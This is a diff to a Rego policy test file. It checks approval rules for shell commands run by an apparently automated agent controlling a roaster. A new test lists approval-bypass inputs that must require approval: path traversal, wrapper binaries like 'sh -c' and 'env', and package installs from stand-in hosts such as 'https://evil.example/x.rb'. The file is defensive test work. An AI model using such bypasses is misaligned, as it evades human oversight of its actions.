@@ -55,17 +55,39 @@ test_critical_needs_two_approvers_even_at_veto_levels if {
 
 test_l5_allows_all_but_manual_only if {
 	effect("roaster.emergency_shutdown", {}, "L5") == "allow"
-	effect("shell.exec", {"command": "make build"}, "L5") == "require_approval"
-	effect("shell.exec", {"command": "ls"}, "L5") == "allow"
+	effect("shell.exec", {"argv": ["/usr/bin/make", "build"]}, "L5") == "require_approval"
+	effect("shell.exec", {"argv": ["/usr/bin/ls"]}, "L5") == "allow"
 }
 
 test_shell_classification if {
-	effect("shell.exec", {"command": "which git"}, "L3+") == "allow"
-	effect("shell.exec", {"command": "brew install node"}, "L3+") == "allow"
-	effect("shell.exec", {"command": "brew uninstall node"}, "L3+") == "require_approval"
-	effect("shell.exec", {"command": "nice ls -la"}, "L3+") == "allow"
-	effect("shell.exec", {"command": "sh -c 'ls'"}, "L3+") == "require_approval"
-	effect("shell.exec", {"command": "ls"}, "L3") == "require_approval"
+	effect("shell.exec", {"argv": ["/usr/bin/which", "git"]}, "L3+") == "allow"
+	effect("shell.exec", {"argv": ["/bin/ls", "-la"]}, "L3+") == "allow"
+	effect("shell.exec", {"argv": ["/usr/local/bin/brew", "install", "node"]}, "L3+") == "allow"
+	effect("shell.exec", {"argv": ["/usr/bin/apt", "install", "jq", "ripgrep"]}, "L3+") == "allow"
+	effect("shell.exec", {"argv": ["/usr/local/bin/brew", "uninstall", "node"]}, "L3+") == "require_approval"
+	effect("shell.exec", {"argv": ["/usr/bin/ls"]}, "L3") == "require_approval"
+}
+
+test_only_system_binaries_by_absolute_path_are_safe if {
+	every argv in [
+		["ls"],
+		["./ls"],
+		["/tmp/x/ls"],
+		["/usr/bin/../../tmp/ls"],
+		["/usr/bin/x/ls"],
+		["/usr/bin//ls"],
+		["/usr/bin/env", "ls"],
+		["/usr/bin/nice", "ls", "-la"],
+		["/bin/sh", "-c", "ls"],
+		["/usr/bin/python3", "-c", "print(1)"],
+		["/usr/bin/apt", "install", "./evil.deb"],
+		["/usr/bin/apt", "install", "evil.deb"],
+		["/usr/local/bin/brew", "install", "https://evil.example/x.rb"],
+		["/usr/bin/apt", "install", "-o", "APT::x=y", "jq"],
+		["/usr/bin/apt", "install", "http:evil"],
+	] {
+		effect("shell.exec", {"argv": argv}, "L3+") == "require_approval"
+	}
 }
 
 test_radio_mode_aliases if {
@@ -91,6 +113,6 @@ test_missing_level_denies if {
 test_approval_by_risk if {
 	low := policy.decision with input as act("roaster.set_power", {"value": 1}, "L3")
 	low.approval == {"count": 1, "roles": ["operator", "admin"], "timeout_seconds": 300}
-	high := policy.decision with input as act("shell.exec", {"command": "make"}, "L3")
+	high := policy.decision with input as act("shell.exec", {"argv": ["/usr/bin/make"]}, "L3")
 	high.approval.timeout_seconds == 600
 }
